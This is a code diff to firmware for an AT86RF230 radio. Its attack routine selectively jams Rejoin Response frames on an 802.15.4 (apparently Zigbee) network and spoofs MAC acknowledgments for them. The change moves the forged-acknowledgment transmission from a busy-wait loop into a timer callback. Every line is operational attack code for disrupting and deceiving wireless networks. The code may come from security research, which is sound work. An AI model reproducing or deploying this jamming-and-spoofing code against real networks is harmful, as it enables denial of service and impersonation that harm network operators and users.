@@ -10,6 +10,7 @@
  * (at your option) any later version.
  */
 
+#include <stddef.h>
 #include <stdbool.h>
 #include <stdint.h>
 
@@ -20,6 +21,32 @@
 #include "spi.h"
 #include "board.h"
 #include "attack.h"
+#include "timer.h"
+
+
+static struct timer wait;
+static uint8_t mac_seq_num = 0;
+
+
+/* Continue once the jamming packet has been transmitted */
+
+static void spoof_ack(void *user)
+{
+	/* Spoof a MAC acknowledgment */
+	spi_begin();
+	spi_send(AT86RF230_BUF_WRITE);
+	spi_send(5);
+	spi_send(0x02);
+	spi_send(0x00);
+	spi_send(mac_seq_num);
+	spi_end();
+
+	/* Transition into the BUSY_TX state */
+	slp_tr();
+
+	/* Transition into the RX_ON state */
+	change_state(TRX_CMD_RX_ON);
+}
 
 
 /*
@@ -30,7 +57,6 @@ bool attack(void)
 {
 	uint8_t rx_byte = 0;
 	uint8_t phy_len = 0;
-	uint8_t mac_seq_num = 0;
 	uint8_t mac_src_0 = 0;
 	uint8_t mac_src_1 = 0;
 	uint8_t nwk_src_0 = 0;
@@ -224,32 +250,21 @@ bool attack(void)
 	spi_send(jam_len);
 	spi_end();
 
-	/* Transition into the BUSY_TX state */
-	slp_tr();
-
 	/* Spoof a MAC acknowledgment for each jammed Rejoin Response */
 	if (nwk_cmd_len == 3 && nwk_radius == 1
 	    && nwk_src_1 == mac_src_1 && nwk_src_0 == mac_src_0) {
-		/* Wait for the transmission of the spoofed packet */
-		while (jam_len > 0) {
-			_delay_us(32);
-			jam_len--;
-		}
-		_delay_us(400);
-
-		/* Spoof a MAC acknowledgment */
-		spi_begin();
-		spi_send(AT86RF230_BUF_WRITE);
-		spi_send(5);
-		spi_send(0x02);
-		spi_send(0x00);
-		spi_send(mac_seq_num);
-		spi_end();
-
 		/* Transition into the BUSY_TX state */
-		slp_tr();
+		slp_tr_more();
+
+		/* Wait for the transmission of the spoofed packet */
+		timer_start(&wait, TIMER_US(32*jam_len+400), 0, spoof_ack,
+		    NULL);
+		return 1;
 	}
 
+	/* Transition into the BUSY_TX state */
+	slp_tr();
+
 	/* Transition into the RX_ON state */
 	change_state(TRX_CMD_RX_ON);
 